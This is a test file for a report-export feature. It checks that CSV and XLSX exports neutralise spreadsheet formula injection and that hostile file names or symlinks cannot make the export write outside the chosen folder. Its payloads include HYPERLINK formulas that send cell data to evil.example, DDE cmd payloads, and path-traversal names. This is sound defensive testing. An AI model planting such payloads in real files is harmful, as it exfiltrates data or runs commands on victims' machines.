import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dispatch } from '../../../src/main/dispatch';
import { type SeededWorkspace, seededWorkspace } from './helpers';

/**
 * Exports end to end through the contract (report:export), with hostile text planted in every
 * free-text field a report shows: order reference, hint, storefront refund id, NetSuite document
 * number, annotation reason and note. The unit tests of src/main/reports cover the cell functions;
 * this proves the whole path neutralises formulas and never writes outside the chosen folder.
 */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const PAYLOADS = TRIGGERS.map((t) => `${t}HYPERLINK("http://evil.example/?"&A1,"x")`).concat([
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  ' =1+1',
  '\u200B=1+1',
]);
const NUMBER = /^-?\d+(\.\d+)?$/;

let ws: SeededWorkspace;
let runId: number;
let base: string;

beforeAll(async () => {
  ws = await seededWorkspace();
  const db = ws.ctx.db;
  runId = (db.prepare('SELECT max(id) AS id FROM comparison_runs').get() as { id: number }).id;
  const rows = db.prepare('SELECT id, result_key FROM results WHERE run_id = ? ORDER BY id').all(runId) as {
    id: number;
    result_key: string;
  }[];
  const set = db.prepare('UPDATE results SET order_ref = ?, hint = ? WHERE id = ?');
  for (const [i, r] of rows.slice(0, PAYLOADS.length).entries()) {
    set.run(PAYLOADS[i], PAYLOADS[(i + 1) % PAYLOADS.length], r.id);
  }
  const refunds = db.prepare('SELECT id FROM refunds ORDER BY id LIMIT ?').all(PAYLOADS.length * 4) as { id: number }[];
  const setRefund = db.prepare('UPDATE refunds SET source_id = ?, document_number = ? WHERE id = ?');
  for (const [i, r] of refunds.entries()) {
    setRefund.run(PAYLOADS[i % PAYLOADS.length], PAYLOADS[(i + 3) % PAYLOADS.length], r.id);
  }
  for (const [i, r] of rows.slice(0, PAYLOADS.length).entries()) {
    const set = await dispatch(
      'annotation:set',
      { resultKey: r.result_key, status: 'explained', reason: PAYLOADS[i], note: PAYLOADS[i], author: PAYLOADS[i] },
      ws.ctx,
    );
    expect(set.ok).toBe(true);
  }
  base = fs.mkdtempSync(path.join(os.tmpdir(), 'rr-export-sec-'));
}, 60_000);
afterAll(() => {
  ws?.close();
  fs.rmSync(base, { recursive: true, force: true });
});

async function exportTo(folder: string, fileName: string, format: 'csv' | 'xlsx' | 'html') {
  return dispatch('report:export', { runId, format, folder, fileName, filters: { sort: 'orderRef' } }, ws.ctx);
}

function unsafe(cell: string): boolean {
  const first = [...cell].find((c) => !/^[\s\u200B-\u200D\u2060\uFEFF\u00AD]$/.test(c) || /[\t\r\n]/.test(c));
  return first !== undefined && TRIGGERS.includes(first) && !NUMBER.test(cell.trim());
}

describe('exports: formula injection', () => {
  it('CSV: every cell that would start a formula is neutralised (amounts stay numbers)', async () => {
    const folder = fs.mkdtempSync(path.join(base, 'csv-'));
    const r = (await exportTo(folder, 'review.csv', 'csv')) as { ok: true; value: { path: string } };
    expect(r.ok, JSON.stringify(r)).toBe(true);
    const records = parse(fs.readFileSync(r.value.path, 'utf8').replace(/^\uFEFF/, ''), {
      relax_column_count: true,
    }) as string[][];
    const cells = records.flat();
    const planted = cells.filter((c) => PAYLOADS.some((p) => c.includes(p.trim().slice(1, 10))));
    expect(planted.length).toBeGreaterThan(PAYLOADS.length);
    expect(cells.filter(unsafe)).toEqual([]);
  });

  it('XLSX: no formula cells, and every text cell that would start one is neutralised', async () => {
    const folder = fs.mkdtempSync(path.join(base, 'xlsx-'));
    const r = (await exportTo(folder, 'review.xlsx', 'xlsx')) as { ok: true; value: { path: string } };
    expect(r.ok, JSON.stringify(r)).toBe(true);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(r.value.path);
    const texts: string[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula, cell.address).toBeFalsy();
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      ),
    );
    expect(texts.filter((t) => PAYLOADS.some((p) => t.includes(p.trim().slice(1, 10)))).length).toBeGreaterThan(
      PAYLOADS.length,
    );
    expect(texts.filter(unsafe)).toEqual([]);
  });
});

describe('exports: the file lands in the chosen folder and nowhere else', () => {
  const hostileNames = [
    '../../escape.csv',
    '..\\..\\escape.csv',
    '/etc/escape.csv',
    'C:\\Windows\\escape.csv',
    '\\\\server\\share\\escape.csv',
    'sub/dir/escape.csv',
    '.bashrc',
    'CON',
    'aux.csv',
    'name\u0000.csv',
    'name\nwith\rbreaks.csv',
    `${'a'.repeat(250)}.csv`,
    '%2e%2e%2fescape.csv',
    ' .. ',
  ];

  it.each(hostileNames)('%j stays inside the folder', async (name) => {
    const parent = fs.mkdtempSync(path.join(base, 'p-'));
    const folder = path.join(parent, 'chosen');
    fs.mkdirSync(folder);
    const r = await exportTo(folder, name, 'csv');
    if (r.ok) {
      const written = (r.value as { path: string }).path;
      expect(path.dirname(fs.realpathSync(written))).toBe(fs.realpathSync(folder));
    } else {
      expect(r.error.code).not.toBe('internal_error');
    }
    // Nothing appeared beside the chosen folder, and the chosen folder holds at most one file.
    expect(fs.readdirSync(parent)).toEqual(['chosen']);
    expect(fs.readdirSync(folder).length).toBeLessThanOrEqual(1);
  });

  it('a relative, missing or symlinked-away folder is refused or resolved without escaping', async () => {
    for (const folder of ['relative/folder', path.join(base, 'does-not-exist'), '']) {
      const r = await exportTo(folder, 'x.csv', 'csv');
      expect(r.ok, folder).toBe(false);
    }
    // A symlink inside the chosen folder named like the export must not redirect the write.
    const folder = fs.mkdtempSync(path.join(base, 'link-'));
    const outside = fs.mkdtempSync(path.join(base, 'outside-'));
    fs.symlinkSync(path.join(outside, 'target.csv'), path.join(folder, 'trap.csv'));
    const r = await exportTo(folder, 'trap.csv', 'csv');
    expect(fs.existsSync(path.join(outside, 'target.csv'))).toBe(false);
    if (r.ok) expect(path.dirname((r.value as { path: string }).path)).toBe(folder);
  });
});
